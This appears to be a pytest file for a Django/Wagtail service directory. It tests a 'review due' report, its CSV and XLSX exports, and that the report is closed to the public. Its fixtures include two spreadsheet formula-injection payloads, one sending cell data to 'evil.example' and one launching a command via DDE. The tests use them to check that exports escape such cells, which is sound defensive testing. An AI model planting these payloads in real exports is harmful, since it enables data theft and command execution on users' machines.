import csv
import datetime
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from tests.localoffer.factories import OrganizationFactory, ServicePageFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def services(directory):
    today = timezone.localdate()
    return {
        "old": ServicePageFactory(
            parent=directory,
            title="Old swimming club",
            assured_date=today - datetime.timedelta(days=400),
            organization=OrganizationFactory(name="North London Active Leisure"),
        ),
        "new": ServicePageFactory(parent=directory, title="New drama club", assured_date=today),
        "flagged": ServicePageFactory(
            parent=directory,
            title="Flagged therapy clinic",
            assured_date=today - datetime.timedelta(days=30),
            review_due_on=today - datetime.timedelta(days=1),
        ),
    }


def test_report_lists_services_due_for_review_with_their_organisation(client, editor, services):
    client.force_login(editor)
    response = client.get(reverse("localoffer_review_due"))
    assert response.status_code == 200
    html = response.content.decode()
    assert "Old swimming club" in html and "North London Active Leisure" in html
    assert "Flagged therapy clinic" in html
    assert "New drama club" not in html


def test_report_exports_csv(client, editor, services):
    client.force_login(editor)
    response = client.get(reverse("localoffer_review_due"), {"export": "csv"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode()
    lines = content.strip().splitlines()
    assert lines[0].startswith("Service,Organisation,Last reviewed,Review due")
    assert any(line.startswith("Old swimming club,North London Active Leisure,") for line in lines)
    assert "New drama club" not in content


def test_report_is_in_the_reports_menu_and_closed_to_the_public(client, editor, services):
    assert client.get(reverse("localoffer_review_due")).status_code == 302
    client.force_login(editor)
    assert reverse("localoffer_review_due") in client.get(reverse("wagtailadmin_home")).content.decode()


FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
FORMULA_ORGANISATION = "@SUM(1+1)*cmd|' /C calc'!A0"  # PayloadsAllTheThings, CSV Injection


@pytest.fixture
def hostile_service(directory):
    return ServicePageFactory(
        parent=directory,
        title=FORMULA_TITLE,
        assured_date=timezone.localdate() - datetime.timedelta(days=400),
        organization=OrganizationFactory(name=FORMULA_ORGANISATION),
    )


def test_csv_export_quotes_text_a_spreadsheet_would_run_as_a_formula(client, editor, hostile_service):
    client.force_login(editor)
    response = client.get(reverse("localoffer_review_due"), {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    row = next(row for row in rows if FORMULA_TITLE in row[0])
    assert row[0] == "'" + FORMULA_TITLE
    assert row[1] == "'" + FORMULA_ORGANISATION
    assert row[2][:1].isdigit()  # dates stay dates


def test_xlsx_export_quotes_the_same_cells(client, editor, hostile_service):
    client.force_login(editor)
    response = client.get(reverse("localoffer_review_due"), {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows(values_only=True))
    row = next(row for row in rows if FORMULA_TITLE in str(row[0]))
    assert row[0] == "'" + FORMULA_TITLE and row[1] == "'" + FORMULA_ORGANISATION
